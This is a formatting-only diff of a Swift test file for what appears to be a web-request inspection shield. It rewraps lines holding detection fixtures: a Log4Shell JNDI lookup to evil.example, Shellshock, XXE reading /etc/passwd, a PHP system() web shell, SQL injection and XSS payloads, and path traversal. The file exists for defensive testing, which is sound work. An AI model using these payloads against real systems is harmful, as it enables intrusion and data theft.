@@ -38,7 +38,10 @@ struct ShieldTests {
             ("${jndi:ldap://evil.example/a}", .log4Shell),
             ("${${lower:j}${::-n}di:rmi://x/y}", .log4Shell),
             ("() { :; }; /bin/bash -c id", .shellshock),
-            ("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>", .xmlExternalEntity),
+            (
+                "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
+                .xmlExternalEntity
+            ),
             ("{\"$where\": \"sleep(1000)\"}", .noSQLInjection),
             ("<?php system($_GET['c']); ?>", .codeInjection),
             ("O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", .codeInjection),
@@ -76,7 +79,8 @@ struct ShieldTests {
         headers[HTTPField.Name("referer")!] = "https://example.com/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"
         let request = BulwarkRequest.post(
             "/a/..%2f..%2fetc/passwd?$where=1",
-            body: #"{"user": {"name": "x' union select password from users--"}, "tags": ["ok", "<svg/onload=alert(1)>"]}"#,
+            body:
+                #"{"user": {"name": "x' union select password from users--"}, "tags": ["ok", "<svg/onload=alert(1)>"]}"#,
             headers: headers
         )
         let findings = Set(shield.inspect(request))
@@ -107,7 +111,8 @@ struct ShieldTests {
         #expect(found.contains(ShieldFinding(attack: .codeInjection, location: "body.multipart.file")))
         let xml = BulwarkRequest.post(
             "/soap",
-            body: "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY e SYSTEM \"http://x/\">]><a>&lt;script&gt;alert(1)&lt;/script&gt;</a>",
+            body:
+                "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY e SYSTEM \"http://x/\">]><a>&lt;script&gt;alert(1)&lt;/script&gt;</a>",
             contentType: "text/xml"
         )
         let xmlFound = Set(shield.inspect(xml).map(\.attack))
@@ -156,7 +161,10 @@ struct ShieldTests {
         arguments: [
             (#"{"type": "shield", "sensitivity": "PARANOID"}"#, "sensitivity"),
             (#"{"type": "shield", "exclude": [{"location": ""}]}"#, "exclude[0].location"),
-            (#"{"type": "shield", "exclude": [{"location": "x", "attacks": ["SQLI", "NOPE"]}]}"#, "exclude[0].attacks[1]"),
+            (
+                #"{"type": "shield", "exclude": [{"location": "x", "attacks": ["SQLI", "NOPE"]}]}"#,
+                "exclude[0].attacks[1]"
+            ),
             (#"{"type": "shield", "maxBodyBytes": 0}"#, "maxBodyBytes"),
             (#"{"type": "shield", "exclude": "body"}"#, "exclude"),
         ]
@@ -187,7 +195,11 @@ struct ShieldTests {
             _ = shield.inspect(BulwarkRequest.post("/", body: body, contentType: type))
         }
         let limited = Shield(limits: ShieldLimits(maxBodyBytes: 16, maxValues: 2, maxDepth: 2))
-        let late = BulwarkRequest.post("/", body: String(repeating: "a", count: 64) + "<script>alert(1)</script>", contentType: "text/plain")
+        let late = BulwarkRequest.post(
+            "/",
+            body: String(repeating: "a", count: 64) + "<script>alert(1)</script>",
+            contentType: "text/plain"
+        )
         #expect(limited.inspect(late).isEmpty)
     }
 
